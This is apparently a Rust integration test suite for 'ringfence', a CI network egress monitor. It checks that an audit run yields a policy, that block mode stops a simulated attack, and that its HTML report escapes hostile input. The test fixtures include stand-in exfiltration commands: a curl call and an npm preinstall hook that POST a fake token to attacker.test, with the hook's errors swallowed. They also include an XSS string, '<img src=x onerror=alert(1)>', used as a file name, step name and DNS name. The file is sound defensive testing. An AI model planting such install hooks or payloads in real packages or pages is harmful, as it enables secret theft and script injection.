//! From audit to block, locally (issue 12), end to end with real runs: a job in a network
//! namespace (real dnsmasq, curl, HTTP servers) runs in audit mode; `policy suggest` turns
//! its events into a policy; that policy in block mode lets the same job through and
//! blocks the attacker's call the audit run did not make; a later run against the first
//! as its baseline flags exactly the one new destination; the HTML page of that run,
//! rendered by real headless Chromium, shows the step and the attacker's name, runs no
//! script, logs no console message and makes no request; a hostile comm, executable and
//! step name show as text. The same journey with the real client: `npm install` from a
//! registry in the server namespace, whose package's preinstall hook posts a token to the
//! attacker. Needs root; never skipped.

mod common;

use std::io::{BufRead, BufReader};
use std::net::{SocketAddr, TcpListener};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use common::*;
use serde_json::Value;
use testbed::{link_v4, routed_v4};

/// What a poisoned step names its tools, to check the page shows it as text.
const HOSTILE: &str = "<img src=x onerror=alert(1)>";

/// The clean job: the registry (behind a CNAME), GitHub, two numbered cache siblings, and
/// a direct-IP call that is blocked in every mode and must not end the job.
fn clean_script(direct: &str) -> String {
    format!(
        "set -e\n\
         get() {{ curl -fsS --connect-timeout 3 --max-time 5 -o /dev/null \"$@\"; }}\n\
         get http://registry.npmjs.test/left-pad/-/left-pad-1.3.0.tgz\n\
         get http://github.test/acme/app.git/info/refs\n\
         get http://cache7.ci.example.test/blob/a\n\
         get http://cache12.ci.example.test/blob/b\n\
         curl -fsS --connect-timeout 1 -o /dev/null http://{direct}/direct || true\n"
    )
}

/// The same job whose postinstall hook also posts a token to attacker.test, with a curl
/// whose file name is hostile HTML (so are its comm and executable in the events). It
/// then tries the direct IP the clean job also tries (blocked in every mode: its connect
/// times out), so it is still alive when the agent reads its executable and parents (a
/// process gone by then is named by pid and comm only).
fn poisoned_script(direct: &str, hostile_curl: &Path) -> String {
    format!(
        "{}\"{}\" -fsS --connect-timeout 1 --max-time 5 -o /dev/null --data token=npm_FAKE \
         http://attacker.test/collect http://{direct}/direct || true\nexit 0\n",
        clean_script(direct),
        hostile_curl.display()
    )
}

struct Run {
    status: std::process::ExitStatus,
    stderr: String,
    events_file: PathBuf,
    events: Vec<Value>,
}

impl Run {
    fn flows_named(&self, name: &str) -> Vec<&Value> {
        self.events
            .iter()
            .filter(|e| e.get("type").is_none() && e["domain"] == name)
            .collect()
    }
}

/// `ringfence exec --events <file> OPTS -- sh SCRIPT` in the client namespace.
fn run(tb: &Testbed, tag: &str, opts: &[&str], script: &Path) -> Run {
    let events_file = tb.workdir().join(format!("events-{tag}.jsonl"));
    let args = exec_sh_args(&format!("insights-{tag}"), &events_file, opts, script);
    let (status, _, stderr) = run_timeout(tb.client_cmd(RINGFENCE, &args), JOB_TIMEOUT);
    let events = read_events(&events_file);
    Run {
        status,
        stderr,
        events_file,
        events,
    }
}

/// `ringfence ARGS…` on the host (the offline commands need nothing else).
fn ringfence(args: &[&str]) -> (i32, String, String) {
    let out = Command::new(RINGFENCE).args(args).output().unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn audit_run_to_policy_to_block_with_baseline_and_page() {
    let registry = link_v4(11);
    let github = link_v4(12);
    let cache = link_v4(13);
    let attacker = routed_v4(20);
    // No DNS answer names it: a direct-IP call.
    let direct = link_v4(14);
    let tb = testbed(
        &[
            DnsRecord::cname("registry.npmjs.test", "registry.edge.test"),
            DnsRecord::a("registry.edge.test", registry),
            DnsRecord::a("github.test", github),
            DnsRecord::a("cache7.ci.example.test", cache),
            DnsRecord::a("cache12.ci.example.test", cache),
            DnsRecord::a("attacker.test", attacker),
        ],
        &[
            sa(registry, 80),
            sa(github, 80),
            sa(cache, 80),
            sa(attacker, 80),
            sa(direct, 80),
        ],
    );
    let direct = direct.to_string();
    let hostile_curl = tb.workdir().join(HOSTILE);
    std::fs::copy("/usr/bin/curl", &hostile_curl).expect("copying curl");
    let clean = scratch(&tb, "clean.sh", &clean_script(&direct));
    let poisoned = scratch(&tb, "poisoned.sh", &poisoned_script(&direct, &hostile_curl));

    // 1. The audit run of the clean job (only github.test listed).
    let audit = run(
        &tb,
        "audit",
        &["--mode", "audit", "--allow", "github.test:80"],
        &clean,
    );
    assert_eq!(audit.status.code(), Some(0), "{}", audit.stderr);
    assert!(!audit.flows_named("cache12.ci.example.test").is_empty());

    // 2. The suggested policy: every name with its port, the siblings collapsed, the direct
    //    IP a comment; it parses with the policy parser.
    let from = audit.events_file.display().to_string();
    let (code, suggested, err) = ringfence(&["policy", "suggest", "--from", &from]);
    assert_eq!(code, 0, "{err}");
    let policy = ringfence::policy::Policy::from_toml_str(&suggested, "suggested")
        .unwrap_or_else(|e| panic!("{e}\n{suggested}"));
    let entries: Vec<&str> = policy.endpoints.iter().map(|e| e.text.as_str()).collect();
    assert_eq!(
        entries,
        [
            "cache*.ci.example.test:80",
            "github.test:80",
            "registry.npmjs.test:80"
        ],
        "{suggested}"
    );
    assert!(
        suggested.starts_with("# ringfence policy suggested"),
        "{suggested}"
    );
    assert!(
        suggested.contains(&format!("{from}: job insights-audit, audit mode")),
        "{suggested}"
    );
    assert!(
        suggested.contains(&format!("#   {direct}:80 (")),
        "{suggested}"
    );
    let policy_file = scratch(&tb, "suggested.toml", &suggested);
    let policy_arg = policy_file.display().to_string();

    // 3. That policy in block mode: the same job passes; the attack the audit run did not
    //    include is blocked, and nothing reaches the attacker.
    let hits_before = tb.http_hits(sa(attacker, 80));
    let block = run(
        &tb,
        "block",
        &["--mode", "block", "--policy", &policy_arg],
        &poisoned,
    );
    assert_eq!(block.status.code(), Some(0), "{}", block.stderr);
    for name in [
        "registry.npmjs.test",
        "github.test",
        "cache7.ci.example.test",
        "cache12.ci.example.test",
    ] {
        let f = block.flows_named(name);
        assert!(
            !f.is_empty() && f.iter().all(|e| e["verdict"] == "allowed"),
            "{name}: {f:?}\n{}",
            block.stderr
        );
    }
    let a = block.flows_named("attacker.test");
    assert!(
        !a.is_empty() && a.iter().all(|e| e["verdict"] == "blocked"),
        "{a:?}\n{}",
        block.stderr
    );
    assert_eq!(tb.http_hits(sa(attacker, 80)), hits_before);

    // 4. --diff against a hand-written policy: what it would block, what it allows unused.
    let hand = scratch(
        &tb,
        "hand.toml",
        "allowed-endpoints = \"\"\"\ngithub.test:80\n*.ci.example.test:80\nunused.test\n\"\"\"\n",
    );
    let (code, diff, err) = ringfence(&[
        "policy",
        "suggest",
        "--from",
        &from,
        "--diff",
        &hand.display().to_string(),
    ]);
    assert_eq!(code, 0, "{err}");
    assert!(
        diff.starts_with(&format!(
            "Used by the runs, blocked by the policy (2):\n  - registry.npmjs.test:80\n  - {direct}:80 (direct IP)\n\
             Allowed by the policy, used by no run (1):\n  + unused.test ("
        )),
        "{diff}"
    );

    // 5. policy check against the suggested policy: exit 0, 1, 2.
    let (code, out, _) = ringfence(&[
        "policy",
        "check",
        "--policy",
        &policy_arg,
        "cache99.ci.example.test:80",
        "github.test:80",
    ]);
    assert_eq!(code, 0, "{out}");
    assert!(
        out.starts_with(&format!(
            "cache99.ci.example.test:80: allowed by entry \"cache*.ci.example.test:80\" at {policy_arg}:"
        )),
        "{out}"
    );
    let (code, out, _) = ringfence(&[
        "policy",
        "check",
        "--policy",
        &policy_arg,
        "github.test:80",
        "attacker.test:80",
        &format!("{direct}:80"),
    ]);
    assert_eq!(code, 1, "{out}");
    assert!(
        out.contains("\nattacker.test:80: blocked: no entry matches attacker.test:80\n"),
        "{out}"
    );
    assert!(
        out.contains(&format!(
            "\n{direct}:80: blocked: no address entry covers it"
        )),
        "{out}"
    );
    let (code, out, err) = ringfence(&[
        "policy",
        "check",
        "--policy",
        &policy_arg,
        "github.test:80",
        "bad name:80",
    ]);
    assert_eq!((code, out.as_str()), (2, ""), "{err}");
    assert!(err.contains("\"bad name:80\": not a DNS name"), "{err}");

    // 6. Baseline: the poisoned job (audit mode) against the clean run flags exactly
    //    attacker.test, in its step; the markdown starts with it.
    let report = tb.workdir().join("report.json");
    let r = run(
        &tb,
        "baseline",
        &[
            "--mode",
            "audit",
            "--allow",
            "github.test:80",
            "--baseline",
            &from,
            "--format",
            "json",
            "--report",
            &report.display().to_string(),
        ],
        &poisoned,
    );
    assert_eq!(r.status.code(), Some(0), "{}", r.stderr);
    let j: Value = serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
    assert_eq!(j["baseline"]["runs"], 1, "{j:#}");
    let new: Vec<String> = j["baseline"]["new"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| format!("{}:{}", c["domain"].as_str().unwrap_or("-"), c["port"]))
        .collect();
    assert_eq!(new, ["attacker.test:80"], "{j:#}");

    // 7. The page, from a real audit run of the poisoned job, with a hostile step name and
    //    the baseline given as a directory; rendered by headless Chromium.
    let base_dir = tb.workdir().join("earlier-runs");
    std::fs::create_dir(&base_dir).unwrap();
    std::fs::copy(&audit.events_file, base_dir.join("run-1.jsonl")).unwrap();
    let page = artifacts().join("insights.html");
    let r = run(
        &tb,
        "page",
        &[
            "--mode",
            "audit",
            "--allow",
            "github.test:80",
            "--step",
            HOSTILE,
            "--baseline",
            &base_dir.display().to_string(),
            "--format",
            "html",
            "--report",
            &page.display().to_string(),
        ],
        &poisoned,
    );
    assert_eq!(r.status.code(), Some(0), "{}", r.stderr);
    // The terminal got the text report, not the page.
    assert!(
        r.stderr.contains("ringfence report: job insights-page"),
        "{}",
        r.stderr
    );
    let html = std::fs::read_to_string(&page).unwrap();
    // The lineage made it to the page: the hostile curl's executable and its shell parent.
    assert!(
        html.contains(&format!(
            "{}/&lt;img src=x onerror=alert(1)&gt;",
            tb.workdir().display()
        )),
        "no escaped executable path in the page: {:?}",
        r.flows_named("attacker.test")
    );
    assert!(
        html.contains("← <code>/usr/bin/dash[") || html.contains("← <code>/bin/dash["),
        "no parent chain"
    );

    let browser = Browser::start(&tb);
    let seen = browser.render(&page, &["--dump-dom"]);
    // Escaped: the hostile strings are text, never elements; the step and the attacker's
    // name are on the page, the attacker's row marked new.
    assert!(!seen.dom.contains("<img"), "{}", seen.dom);
    assert!(
        seen.dom
            .contains("Step 1: &lt;img src=x onerror=alert(1)&gt;"),
        "{}",
        seen.dom
    );
    assert!(
        seen.dom
            .contains("<code>attacker.test</code><span class=\"tag new\">new</span>"),
        "{}",
        seen.dom
    );
    assert!(seen
        .dom
        .contains("1 destination new since the baseline (1 earlier runs)"));
    assert!(
        seen.console.is_empty(),
        "console messages: {:?}",
        seen.console
    );
    assert!(
        seen.requests.is_empty(),
        "the page made requests: {:?}",
        seen.requests
    );
    // A phone-sized screenshot, kept as an artifact.
    let shot = artifacts().join("insights-phone.png");
    let _ = std::fs::remove_file(&shot);
    browser.render(
        &page,
        &[
            &format!("--screenshot={}", shot.display()),
            "--window-size=412,1800",
            "--hide-scrollbars",
        ],
    );
    let png = std::fs::read(&shot).expect("no screenshot");
    assert!(
        png.starts_with(b"\x89PNG") && png.len() > 10_000,
        "{} bytes",
        png.len()
    );
    // And a desktop one in dark mode (prefers-color-scheme: dark).
    let dark = artifacts().join("insights-dark.png");
    let _ = std::fs::remove_file(&dark);
    browser.render(
        &page,
        &[
            &format!("--screenshot={}", dark.display()),
            "--window-size=1200,1400",
            "--force-dark-mode",
            "--hide-scrollbars",
        ],
    );
    assert!(std::fs::read(&dark)
        .expect("no dark screenshot")
        .starts_with(b"\x89PNG"));

    // A hostile DNS name: injected into the real run's events file (a name from the wire
    // may hold any byte), rendered by the library as `report` would, shown as text.
    let mut events = std::fs::read_to_string(&r.events_file).unwrap();
    let mut flow = r.flows_named("attacker.test")[0].clone();
    flow["domain"] = HOSTILE.into();
    flow["port"] = 8443.into();
    events.push_str(&format!("{flow}\n"));
    events.push_str(&format!(
        "{{\"type\":\"dns\",\"ts\":{},\"job\":\"insights-page\",\"step\":null,\"name\":{},\
         \"qtype\":\"A\",\"answers\":[\"{attacker}\"],\"ttl\":60,\"server\":\"{}\",\
         \"rcode\":\"NOERROR\",\"bound\":false}}\n",
        flow["ts"],
        serde_json::to_string(HOSTILE).unwrap(),
        testbed::DNS_V4
    ));
    let read = ringfence::trail::events::read_events(events.as_bytes()).unwrap();
    let mut report = ringfence::trail::report::Report::new("insights-page", "audit");
    read.iter().for_each(|e| report.add(e));
    let injected = scratch(
        &tb,
        "injected.html",
        &report.render(ringfence::trail::report::Format::Html),
    );
    let seen = browser.render(&injected, &["--dump-dom"]);
    assert!(!seen.dom.contains("<img"), "{}", seen.dom);
    assert!(
        seen.dom
            .contains("<code>&lt;img src=x onerror=alert(1)&gt;</code>"),
        "{}",
        seen.dom
    );
    assert!(seen.console.is_empty() && seen.requests.is_empty());

    // The detectors work: a page that fetches and logs is caught by both.
    let probe = scratch(
        &tb,
        "probe.html",
        "<!DOCTYPE html><p>probe</p><img src=\"http://fetch-probe.test/x.png\">\
         <script>console.error('probe-console')</script>",
    );
    let seen = browser.render(&probe, &["--dump-dom"]);
    assert!(
        seen.requests.iter().any(|r| r.contains("fetch-probe.test")),
        "{:?}",
        seen.requests
    );
    assert!(
        seen.console.iter().any(|l| l.contains("probe-console")),
        "{:?}",
        seen.console
    );
}

/// Where the page and its screenshot are kept after the run.
fn artifacts() -> PathBuf {
    let d = Path::new(env!("CARGO_TARGET_TMPDIR")).join("insights");
    std::fs::create_dir_all(&d).unwrap();
    d
}

/// Headless Chromium in the testbed's client namespace, every request it makes sent to a
/// logging proxy on that namespace's loopback (nothing else is reachable from there).
struct Browser<'a> {
    tb: &'a Testbed,
    proxy: SocketAddr,
    requests: Arc<Mutex<Vec<String>>>,
}

struct Seen {
    dom: String,
    /// The page's console messages (Chromium logs them as `CONSOLE` lines).
    console: Vec<String>,
    /// Requests the page made (Chromium's own update and time checks left out).
    requests: Vec<String>,
}

/// Chromium's own background requests (component updates, network time) that
/// `--disable-background-networking` does not stop: not the page's.
const CHROMIUM_OWN: [&str; 3] = ["google.com", "googleapis.com", "gvt1.com"];

impl<'a> Browser<'a> {
    fn start(tb: &'a Testbed) -> Browser<'a> {
        let listener = testbed::in_netns(tb.client_ns(), || TcpListener::bind("127.0.0.1:0"))
            .unwrap()
            .unwrap();
        let proxy = listener.local_addr().unwrap();
        let requests = Arc::new(Mutex::new(Vec::new()));
        let log = requests.clone();
        // Logs each request line and closes: enough to see every fetch, none succeeds.
        std::thread::spawn(move || {
            for c in listener.incoming().flatten() {
                let _ = c.set_read_timeout(Some(Duration::from_secs(2)));
                let mut line = String::new();
                let _ = BufReader::new(&c).read_line(&mut line);
                log.lock().unwrap().push(line.trim_end().to_owned());
            }
        });
        Browser {
            tb,
            proxy,
            requests,
        }
    }

    fn render(&self, page: &Path, extra: &[&str]) -> Seen {
        self.requests.lock().unwrap().clear();
        let profile = self.tb.workdir().join("chromium-profile");
        let mut args: Vec<String> = [
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--no-first-run",
            "--enable-logging=stderr",
            "--v=0",
            "--proxy-bypass-list=<-loopback>",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        args.push(format!("--user-data-dir={}", profile.display()));
        args.push(format!("--proxy-server=http://{}", self.proxy));
        args.extend(extra.iter().map(|s| s.to_string()));
        args.push(format!("file://{}", page.display()));
        let (status, dom, err) = run_timeout(
            self.tb.client_cmd("chromium", &args),
            Duration::from_secs(90),
        );
        assert!(status.success(), "chromium failed ({status}): {err}");
        // Late requests (an image load) reach the proxy after the dump at the latest.
        std::thread::sleep(Duration::from_millis(300));
        let requests = self
            .requests
            .lock()
            .unwrap()
            .iter()
            .filter(|r| {
                let host = r
                    .split_whitespace()
                    .nth(1)
                    .unwrap_or("")
                    .trim_start_matches("http://")
                    .split(['/', ':'])
                    .next()
                    .unwrap_or("")
                    .to_owned();
                !CHROMIUM_OWN
                    .iter()
                    .any(|d| host == *d || host.ends_with(&format!(".{d}")))
            })
            .cloned()
            .collect();
        Seen {
            dom,
            console: err
                .lines()
                .filter(|l| l.contains(":CONSOLE"))
                .map(str::to_owned)
                .collect(),
            requests,
        }
    }
}

/// Through the daemon: `report ID --baseline FILE` (the client reads the file and sends its
/// destinations) marks exactly the new one, `--format html` answers with the page, and
/// `job end` leaves report.html beside the events whatever format it printed.
#[test]
fn daemon_report_with_baseline_and_page() {
    use common::daemon::{in_job, Daemon};
    let (a, b) = (link_v4(15), link_v4(16));
    let tb = testbed(
        &[DnsRecord::a("a.test", a), DnsRecord::a("b.test", b)],
        &[sa(a, 80), sa(b, 80)],
    );
    let mut d = Daemon::start(&tb, &[]);
    let cg = d.cgroup("insights");
    let dns = testbed::DNS_V4.to_string();
    d.start_job(
        "job-12",
        &cg,
        &[
            "--mode",
            "audit",
            "--allow",
            "a.test:80",
            "--dns-resolver",
            &dns,
        ],
    );
    d.ok(&["job", "step", "--id", "job-12", "--name", "fetch"]);
    for url in ["http://a.test/", "http://b.test/"] {
        let (st, out, err) = run_timeout(in_job(&tb, &cg, &curl(&["-4"], url)), JOB_TIMEOUT);
        assert!(st.success(), "{url}: {out}{err}");
    }
    // An earlier run that used the resolver and called a.test only (another job id: the
    // baseline ignores ids).
    let line = |dst: &str, port: u16, domain: &str| {
        format!(
            "{{\"ts\":\"2026-11-25T21:04:05.123456Z\",\"job\":\"job-11\",\"step\":\"fetch\",\"pid\":1,\
             \"comm\":\"curl\",\"cgroup\":1,\"proto\":\"udp\",\"dst\":\"{dst}\",\"port\":{port},\
             \"domain\":{domain},\"verdict\":\"allowed\",\"reason\":\"allowed\"}}\n"
        )
    };
    let earlier = scratch(
        &tb,
        "earlier.jsonl",
        &(line(&dns, 53, "null") + &line(&a.to_string(), 80, "\"a.test\"")),
    );
    let earlier = earlier.display().to_string();
    let j: Value = serde_json::from_str(&d.ok(&[
        "report",
        "job-12",
        "--format",
        "json",
        "--baseline",
        &earlier,
    ]))
    .unwrap();
    let new: Vec<String> = j["baseline"]["new"]
        .as_array()
        .unwrap_or_else(|| panic!("{j:#}"))
        .iter()
        .map(|c| {
            format!(
                "{}:{} {}",
                c["domain"].as_str().unwrap_or("-"),
                c["port"],
                c["step"]
            )
        })
        .collect();
    assert_eq!(new, ["b.test:80 \"fetch\""], "{j:#}");
    // A baseline that does not parse is the client's error (exit 2), named by file and line.
    let bad = scratch(&tb, "bad.jsonl", "{\"type\":\"nope\"}\n");
    let (ok, _, err) = d.cli(&["report", "job-12", "--baseline", &bad.display().to_string()]);
    assert!(
        !ok && err.contains(&format!("baseline {}:1:", bad.display())),
        "{err}"
    );
    // The page, through the socket.
    let page = d.ok(&["report", "job-12", "--format", "html"]);
    assert!(page.starts_with("<!DOCTYPE html>") && page.contains("<code>b.test</code>"));
    // job end prints markdown and leaves the page beside the events.
    let md = d.ok(&["job", "end", "--id", "job-12", "--format", "markdown"]);
    assert!(md.starts_with("### ringfence: job job-12"), "{md}");
    let dir = d.dir.join("data").join("jobs").join("job-12");
    let html = std::fs::read_to_string(dir.join("report.html")).expect("report.html");
    assert!(
        html.contains("<code>a.test</code>") && html.contains("Step 1: fetch"),
        "{html}"
    );
    assert!(dir.join("report.md").exists());
}

/// A package registry for real `npm`: Python's http.server in the server namespace serving
/// a packument (`/NAME` redirects to `/NAME/`, whose index.html is the JSON) and tarballs.
/// Killed when dropped.
struct Registry(std::process::Child);

impl Registry {
    fn start(tb: &Testbed, addr: std::net::Ipv4Addr, root: &Path) -> Registry {
        // Held at once, so a panic below still kills it.
        let registry = Registry(
            tb.server_cmd(
                "python3",
                [
                    "-m",
                    "http.server",
                    "80",
                    "--bind",
                    &addr.to_string(),
                    "--directory",
                    &root.display().to_string(),
                ],
            )
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .expect("python3 -m http.server"),
        );
        // Ready when it answers (from the server namespace, where no ringfence runs).
        for _ in 0..100 {
            let st = tb
                .server_cmd(
                    "curl",
                    ["-fsS", "-o", "/dev/null", &format!("http://{addr}/")],
                )
                .stderr(std::process::Stdio::null())
                .status()
                .unwrap();
            if st.success() {
                return registry;
            }
            std::thread::sleep(Duration::from_millis(100));
        }
        panic!("the registry on {addr} never answered");
    }
}

impl Drop for Registry {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// The seed's journey with the real client: `npm install` of a package whose preinstall
/// hook (node, as real ones are) posts a token to attacker.test. In audit mode the page
/// names the attacker in npm's step with the process that called it, and the attacker's
/// server got the post; in block mode, with only the registry allowed, npm still installs
/// the package and the attacker's server gets nothing.
#[test]
fn real_npm_preinstall_audit_page_then_block() {
    let npm = testbed::require_tool("npm").expect("npm (scripts/ensure-deps test)");
    let registry = link_v4(21);
    let attacker = routed_v4(22);
    let tb = testbed(
        &[
            DnsRecord::a("registry.npmjs.test", registry),
            DnsRecord::a("attacker.test", attacker),
        ],
        &[sa(attacker, 80)],
    );
    let root = tb.workdir().join("registry");
    let pkg = root.join("build/package");
    std::fs::create_dir_all(&pkg).unwrap();
    std::fs::create_dir_all(root.join("left-pad/-")).unwrap();
    // Errors swallowed, as a real stealer's are: the install must look clean.
    let hook = "node -e \"const r=require('http').request({host:'attacker.test',path:'/collect',\
                method:'POST'},s=>s.resume());r.on('error',()=>{});r.end('token=npm_FAKE')\"";
    let manifest = serde_json::json!({
        "name": "left-pad", "version": "1.3.0", "main": "index.js",
        "scripts": {"preinstall": hook},
    });
    std::fs::write(pkg.join("package.json"), manifest.to_string()).unwrap();
    std::fs::write(pkg.join("index.js"), "module.exports = (s) => s;\n").unwrap();
    let tgz = root.join("left-pad/-/left-pad-1.3.0.tgz");
    let st = Command::new("tar")
        .args(["-czf", &tgz.display().to_string(), "-C"])
        .arg(root.join("build"))
        .arg("package")
        .status()
        .unwrap();
    assert!(st.success());
    let sha1 = Command::new("sha1sum").arg(&tgz).output().unwrap();
    let sha1 = String::from_utf8_lossy(&sha1.stdout)
        .split_whitespace()
        .next()
        .unwrap()
        .to_string();
    let mut version = manifest.clone();
    version["hasInstallScript"] = true.into();
    version["dist"] = serde_json::json!({
        "tarball": "http://registry.npmjs.test/left-pad/-/left-pad-1.3.0.tgz",
        "shasum": sha1,
    });
    let packument = serde_json::json!({
        "name": "left-pad",
        "dist-tags": {"latest": "1.3.0"},
        "versions": {"1.3.0": version},
    });
    std::fs::write(root.join("left-pad/index.html"), packument.to_string()).unwrap();
    let _registry = Registry::start(&tb, registry, &root);

    // `npm install left-pad` in a fresh project, under ringfence.
    let npm_run = |tag: &str, opts: &[&str]| -> (Run, PathBuf) {
        let project = tb.workdir().join(format!("app-{tag}"));
        std::fs::create_dir_all(&project).unwrap();
        std::fs::write(
            project.join("package.json"),
            "{\"name\":\"app\",\"version\":\"1.0.0\"}\n",
        )
        .unwrap();
        let script = scratch(
            &tb,
            &format!("npm-{tag}.sh"),
            &format!(
                "set -e\ncd '{}'\nexport HOME='{}' npm_config_cache='{}/npm-cache-{tag}'\n\
                 '{}' install --no-audit --no-fund --no-update-notifier --loglevel=error \
                 --fetch-retries=0 --registry http://registry.npmjs.test/ left-pad\n",
                project.display(),
                tb.workdir().display(),
                tb.workdir().display(),
                npm.display()
            ),
        );
        (run(&tb, tag, opts, &script), project)
    };

    // Audit: the page names the attacker, in npm's step, with the hook's process.
    let page = tb.workdir().join("npm.html");
    let hits = tb.http_hits(sa(attacker, 80));
    let (audit, project) = npm_run(
        "npm-audit",
        &[
            "--mode",
            "audit",
            "--allow",
            "registry.npmjs.test:80",
            "--step",
            "npm install",
            "--format",
            "html",
            "--report",
            &page.display().to_string(),
        ],
    );
    assert_eq!(audit.status.code(), Some(0), "{}", audit.stderr);
    assert!(project.join("node_modules/left-pad/index.js").exists());
    assert_eq!(
        tb.http_hits(sa(attacker, 80)),
        hits + 1,
        "audit lets it out"
    );
    let a = audit.flows_named("attacker.test");
    assert!(
        !a.is_empty() && a.iter().all(|e| e["verdict"] == "audited" && e["pid"] != 0),
        "{a:?}\n{}",
        audit.stderr
    );
    let r = audit.flows_named("registry.npmjs.test");
    assert!(
        !r.is_empty() && r.iter().all(|e| e["verdict"] == "allowed"),
        "{r:?}"
    );
    let html = std::fs::read_to_string(&page).unwrap();
    assert!(html.contains("<code>attacker.test</code>"), "{html}");
    assert!(html.contains("Step 1: npm install"), "{html}");

    // The page from the real npm run, in Chromium: the attacker and the step are there.
    let browser = Browser::start(&tb);
    let seen = browser.render(&page, &["--dump-dom"]);
    assert!(seen.dom.contains("attacker.test"), "{}", seen.dom);
    assert!(seen.dom.contains("npm install"), "{}", seen.dom);
    assert!(seen.console.is_empty() && seen.requests.is_empty());

    // Block with only the registry: npm installs, the attacker gets nothing.
    let hits = tb.http_hits(sa(attacker, 80));
    let (block, project) = npm_run(
        "npm-block",
        &["--mode", "block", "--allow", "registry.npmjs.test:80"],
    );
    assert_eq!(block.status.code(), Some(0), "{}", block.stderr);
    assert!(project.join("node_modules/left-pad/index.js").exists());
    let a = block.flows_named("attacker.test");
    assert!(
        !a.is_empty() && a.iter().all(|e| e["verdict"] == "blocked"),
        "{a:?}\n{}",
        block.stderr
    );
    assert_eq!(
        tb.http_hits(sa(attacker, 80)),
        hits,
        "nothing reached the attacker"
    );
}
